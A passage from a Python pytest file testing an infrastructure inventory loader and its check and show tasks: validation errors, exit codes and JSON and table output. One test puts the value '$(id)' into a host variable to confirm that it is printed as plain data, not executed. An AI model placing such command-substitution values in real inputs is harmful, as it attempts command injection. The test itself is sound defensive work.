        hosts:
          h1: {groups: [g]}
        """)
    one_error(path, 2, "defaults.vars.hardware.count", "integer >= 1")
    one_error(path, 5, "groups.g.vars.stack.cuda", "bad CUDA version 'x'")


def test_no_hosts(tmp_path):
    one_error(write(tmp_path, "groups:\n  a: {}\n"), 1, "(top level)", "no hosts")
    one_error(write(tmp_path, "hosts: {}\n", "b.yaml"), 1, "hosts", "no hosts")


def test_hosts_must_be_a_mapping(tmp_path):
    one_error(write(tmp_path, "hosts: [h1, h2]\n"), 1, "hosts", "must be a mapping")


def test_inventory_error_message_lists_every_error(tmp_path):
    path = write(tmp_path, "hosts:\n  h1: {port: 0, user: 'a b'}\n")
    with pytest.raises(InventoryError) as info:
        load_inventory(path)
    text = str(info.value)
    assert "2 errors" in text and all(e in text for e in info.value.errors)
    assert "invoke inventory.check" in text


# ---------- tasks ----------

def test_check_task_ok_on_the_example_inventory(capsys):
    inventory_tasks.check(Context(), inventory=str(REPO / "inventories" / "example.yaml"))
    out = capsys.readouterr().out
    assert "ok" in out and "5 hosts" in out and "4 groups" in out


def test_check_task_prints_every_error_and_exits_2(tmp_path, capsys):
    path = write(tmp_path, "hosts:\n  h1: {port: 0}\n  h2: {address: 'x y'}\n")
    with pytest.raises(Exit) as info:
        inventory_tasks.check(Context(), inventory=str(path))
    assert info.value.code == 2
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith(f"{path}:2:") and "hosts.h1.port" in err[0]
    assert err[1].startswith(f"{path}:3:") and "hosts.h2.address" in err[1]
    assert err[2] == f"2 errors in {path}"


def test_check_task_missing_file_exits_2(tmp_path, capsys):
    with pytest.raises(Exit) as info:
        inventory_tasks.check(Context(), inventory=str(tmp_path / "nope.yaml"))
    assert info.value.code == 2 and "not found" in capsys.readouterr().err


def test_show_task_json(tmp_path, capsys):
    path = write(tmp_path, FLEET)
    inventory_tasks.show(Context(), "gpu01", inventory=str(path), json_=True)
    data = json.loads(capsys.readouterr().out)
    assert data["address"] == "10.0.0.1" and data["jump"] == "bastion"
    assert data["jump_via"] == {"name": "bastion", "address": "bastion.example.com", "port": 2222,
                                "user": "ubuntu"}
    assert data["vars"]["level"] == "training" and data["sources"]["level"] == "group:training"
    assert data["sudo"] == {"password_env": "SUDO_PW", "nopasswd": False}


def test_show_task_table_prints_values_as_data(tmp_path, capsys):
    path = write(tmp_path, "hosts:\n  h1:\n    address: 10.0.0.1\n    vars: {note: '[bold]x[/bold] $(id)'}\n")
    inventory_tasks.show(Context(), "h1", inventory=str(path))
    out = capsys.readouterr().out
    assert "[bold]x[/bold] $(id)" in out and "10.0.0.1" in out and "host" in out


def test_show_task_unknown_host_exits_2(tmp_path, capsys):
    path = write(tmp_path, FLEET)
    with pytest.raises(Exit) as info:
        inventory_tasks.show(Context(), "gpu1", inventory=str(path))
    assert info.value.code == 2 and "did you mean 'gpu01'" in capsys.readouterr().err
